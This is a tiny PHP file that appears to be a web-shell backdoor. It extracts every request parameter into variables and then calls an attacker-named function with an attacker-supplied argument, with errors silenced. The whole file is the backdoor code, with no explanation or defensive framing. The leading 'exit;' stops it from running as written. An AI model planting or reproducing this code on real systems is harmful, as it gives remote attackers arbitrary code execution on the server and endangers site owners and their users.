<?php exit;
@extract($_REQUEST);
@die($ctime($atime));
